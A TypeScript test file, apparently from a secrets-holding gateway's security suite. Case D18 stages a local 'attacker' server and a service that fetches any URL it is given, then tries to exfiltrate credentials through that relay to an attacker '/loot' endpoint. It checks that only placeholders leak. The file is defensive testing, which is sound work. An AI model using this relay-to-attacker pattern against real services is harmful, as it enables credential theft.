import { request as httpRequest } from 'node:http'
import { afterAll, beforeAll, expect } from 'vitest'
import { openStage, type Stage } from '../e2e/gateway/harness.ts'
import { type Held, type Login } from '../e2e/gateway/requests.ts'
import { always, startUpstream, type Upstream } from '../e2e/gateway/upstream.ts'
import { attack, fronts } from './attack.ts'
import { ask, bearer, expectNothingOf } from './asking.ts'

let stage: Stage
let service: Upstream
let attacker: Upstream
let echo: Held
let keyed: Held
let login: Login

beforeAll(async () => {
  stage = await openStage()
  attacker = await startUpstream(always(200, {}, 'loot'))
  // A feature of the service: it fetches whatever URL the query or the body names.
  service = await startUpstream((request, response, got) => {
    const wanted =
      new URL(request.url ?? '/', 'http://service').searchParams.get('url') ??
      /"url":"([^"]+)"/.exec(got.body.toString())?.[1] ??
      ''
    const onward = httpRequest(wanted, { headers: { 'x-forwarded-body': got.body.toString('base64') } }, (answer) => {
      answer.resume()
      response.end('fetched')
    })
    onward.on('error', () => response.end('failed'))
    onward.end()
  })
  echo = await stage.hold({ id: 'echo', endpoint: service.origin })
  keyed = await stage.hold({ id: 'keyed', endpoint: service.origin, inject: [{ kind: 'query', name: 'key' }] })
  login = await stage.login('triage')
})

afterAll(async () => {
  await stage.close()
  await service.close()
  await attacker.close()
})

attack('D18', 'a placeholder in a URL that the service fetches stays a placeholder', fronts, async (front) => {
  for (const held of [echo, keyed]) {
    const placeholder = login.placeholder(held)
    const url = `${attacker.origin}/loot?key=${placeholder}&authorization=Bearer%20${placeholder}`
    const query = `/fetch?url=${encodeURIComponent(url)}`
    const before = attacker.got.length
    const own = held === keyed ? `&key=${placeholder}` : ''
    const headers = held === keyed ? [] : [bearer(login, held)]
    const inQuery = await ask(stage, front, { held, login, target: query + own, headers })
    expect(inQuery.body.toString()).toBe('fetched')
    const inBody = await ask(stage, front, {
      held,
      login,
      method: 'POST',
      target: held === keyed ? `/fetch?key=${placeholder}` : '/fetch',
      headers: [...headers, ['Content-Type', 'application/json']],
      body: JSON.stringify({ url, webhook: { headers: { authorization: `Bearer ${placeholder}` } } }),
    })
    expect(inBody.body.toString()).toBe('fetched')
    const arrived = attacker.got.slice(before)
    expect(arrived.map(({ target }) => target.includes(placeholder))).toEqual([true, true])
  }
  // What the service itself was given is its own; what it passed on was the agent's.
  expect(service.received().includes(echo.secret())).toBe(true)
  const seen = attacker.received().toString('latin1')
  const bodies = [...seen.matchAll(/x-forwarded-body: (\S+)/gi)].map(([, coded = '']) => Buffer.from(coded, 'base64'))
  expect(bodies.length).toBeGreaterThan(0)
  for (const held of [echo, keyed]) expectNothingOf(held, seen, ...bodies)
})
